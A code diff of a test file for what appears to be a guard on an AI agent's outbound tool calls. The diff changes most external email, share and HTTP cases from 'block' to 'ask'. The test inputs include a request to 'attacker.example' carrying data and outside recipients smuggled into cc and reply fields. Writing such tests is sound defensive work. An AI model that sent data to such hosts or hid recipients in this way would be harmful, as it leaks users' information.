@@ -45,28 +45,28 @@ def _mail(to, **more):
 @pytest.mark.parametrize(
     ("tool", "arguments", "action", "codes"),
     [
-        ("email_send_email", _mail(INSIDE), "allow", {"destination_internal"}),
+        ("email_send_email", _mail(INSIDE), "allow", {"provenance_listed"}),
         (
             "send_email",
             {"recipients": [INSIDE], "subject": "s", "body": "b"},
             "allow",
-            {"destination_internal"},
+            {"provenance_listed"},
         ),
-        ("email_send_email", _mail(OUTSIDE), "block", {"destination_external"}),
+        ("email_send_email", _mail(OUTSIDE), "ask", {"provenance_unknown"}),
         (
             "send_email",
             {"recipients": [INSIDE, OUTSIDE], "body": "b"},
-            "block",
-            {"destination_external"},
+            "ask",
+            {"provenance_unknown"},
         ),
-        ("email_send_email", _mail(INSIDE, cc=OUTSIDE), "block", {"destination_external"}),
-        ("email_send_email", _mail(INSIDE, reply_hook=OUTSIDE), "block", {"destination_external"}),
-        ("email_send_email", _mail(f"{INSIDE}, {OUTSIDE}"), "block", {"destination_external"}),
-        ("email_send_email", _mail("team@sub.example.com"), "block", {"destination_external"}),
+        ("email_send_email", _mail(INSIDE, cc=OUTSIDE), "ask", {"provenance_unknown"}),
+        ("email_send_email", _mail(INSIDE, reply_hook=OUTSIDE), "ask", {"provenance_unknown"}),
+        ("email_send_email", _mail(f"{INSIDE}, {OUTSIDE}"), "ask", {"provenance_unknown"}),
+        ("email_send_email", _mail("team@sub.example.com"), "ask", {"provenance_unknown"}),
         ("email_send_email", {"subject": "s", "body": "b"}, "block", {"destination_missing"}),
         ("email_send_email", _mail([{"x": {}}]), "block", {"destination_malformed"}),
-        ("share_document", {"to": OUTSIDE}, "block", {"destination_external"}),
-        ("share_document", {"to": INSIDE}, "allow", {"destination_internal"}),
+        ("share_document", {"to": OUTSIDE}, "ask", {"provenance_unknown"}),
+        ("share_document", {"to": INSIDE}, "allow", {"provenance_listed"}),
         ("email_draft_email", _mail(OUTSIDE), "allow", {"tool_role"}),
         ("memory_save_fact", {"key": "k", "value": f"mail {OUTSIDE}"}, "allow", {"tool_role"}),
         ("memory_recall_fact", {"key": "k"}, "allow", {"tool_role"}),
@@ -75,19 +75,19 @@ def _mail(to, **more):
             "http.request",
             {"method": "GET", "url": "https://example.com/x"},
             "allow",
-            {"destination_internal"},
+            {"provenance_listed"},
         ),
         (
             "http.request",
             {"method": "GET", "url": "https://attacker.example/?d=1"},
-            "block",
-            {"destination_external"},
+            "ask",
+            {"provenance_unknown"},
         ),
         (
             "http.request",
             {"method": "POST", "url": "https://example.com/x", "body": f"to={OUTSIDE}"},
-            "block",
-            {"destination_external"},
+            "ask",
+            {"provenance_unknown"},
         ),
         ("resources/read", {"uri": "file:///a"}, "allow", {"tool_role"}),
         ("run_shell", {"command": "true"}, "ask", {"tool_unmapped"}),
@@ -107,7 +107,7 @@ def test_a_recall_before_an_external_send_is_named(default):
     """The paper's rule is one of the reasons, with a step that would help."""
     verdict = _decide(default, "email_send_email", _mail(OUTSIDE), before=[Role.RECALL])
     (reason,) = (r for r in verdict.reasons if r.code == "recall_before_send")
-    assert (verdict.action, bool(reason.remedy)) == (Action.BLOCK, True)
+    assert (verdict.action, bool(reason.remedy)) == (Action.ASK, True)
 
 
 def test_a_recall_before_an_internal_send_is_honest_work(default):
@@ -117,7 +117,7 @@ def test_a_recall_before_an_internal_send_is_honest_work(default):
 
 
 def test_a_high_score_is_a_reason_against_an_external_send(default):
-    """The classifier explains, and blocks by itself if the destination rule is relaxed."""
+    """The classifier explains, and asks by itself if the provenance rule is relaxed."""
     verdict = _decide(default, "email_send_email", _mail(OUTSIDE), score=0.9)
     assert "prefix_score" in {reason.code for reason in verdict.reasons}
 
@@ -169,7 +169,7 @@ def test_an_allowed_path_of_a_host_is_open_to_plain_requests(tmp_path):
         return _decide(policy, "http.request", arguments).action
 
     assert actions("https://api.partner.example:443/v1/items") is Action.ALLOW
-    assert actions("https://api.partner.example:443/v2/items") is Action.BLOCK
+    assert actions("https://api.partner.example:443/v2/items") is Action.ASK
 
 
 def test_every_shipped_policy_is_valid():
